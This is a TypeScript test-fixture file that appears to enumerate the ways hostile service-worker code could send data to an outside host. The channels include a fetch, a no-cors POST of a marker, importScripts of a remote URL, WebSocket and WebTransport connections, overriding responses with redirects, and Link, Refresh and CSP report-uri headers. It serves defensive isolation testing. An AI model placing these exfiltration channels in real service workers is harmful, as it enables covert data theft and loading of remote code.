import { channels } from '../Channel';

const answer = (response: string) =>
  `const give = FetchEvent.prototype.respondWith; FetchEvent.prototype.respondWith = function (answer) { give.call(this, this.request.mode === 'navigate' ? ${response} : answer) }`;
const page = `'<!doctype html><body><img src="' + to.url + '"><script>fetch(' + JSON.stringify(to.url) + ')</scr' + 'ipt>'`;
const withHeader = (name: string, value: string, body = 'a') =>
  answer(
    `new Response('<!doctype html><body>${body}', { headers: { 'content-type': 'text/html', '${name}': ${value} } })`,
  );

/** Hostile code inside the service worker itself: what a bad build, not a bad page, could do. */
export const serviceWorker = [
  ...channels('service worker', 'service worker', {
    fetch: `await fetch(to.url)`,
    'fetch, no-cors POST': `await fetch(to.url, { method: 'POST', mode: 'no-cors', body: to.mark })`,
    importScripts: `importScripts(to.url)`,
    WebSocket: `new WebSocket(to.ws)`,
    WebTransport: `await new WebTransport(to.https).ready`,
    'Cache.add': `await (await caches.open('exits-' + to.mark)).add(new Request(to.url, { mode: 'no-cors' }))`,
    showNotification: `await registration.showNotification('a', { icon: to.url })`,
    'background fetch': `await registration.backgroundFetch.fetch(to.mark, [to.url])`,
  }),
  ...channels(
    'service worker',
    'service worker',
    {
      'navigates a page': `for (let turn = 0; turn < 20; turn++) { await wait(300); for (const client of await clients.matchAll({ includeUncontrolled: true })) await client.navigate(to.url).catch(() => 0) }`,
      'opens a window': `await clients.openWindow(to.url)`,
    },
    { alone: true },
  ),
  ...channels(
    'service worker',
    'service worker',
    {
      'answers with a page of its own': answer(
        `new Response(${page}, { headers: { 'content-type': 'text/html' } })`,
      ),
      'answers with a redirect': answer(`Response.redirect(to.url)`),
      'answers with Link: preload': withHeader('link', `'<' + to.url + '>; rel=preload; as=image'`),
      'answers with Link: preconnect': withHeader('link', `'<' + to.url + '>; rel=preconnect'`),
      'answers with Refresh': withHeader('refresh', `'0; url=' + to.url`),
      'answers with a report-uri': withHeader(
        'content-security-policy',
        `"default-src 'none'; script-src 'none'; report-uri " + to.url`,
        '<img src=./icon.svg><script>1</script>',
      ),
    },
    { again: true },
  ),
];
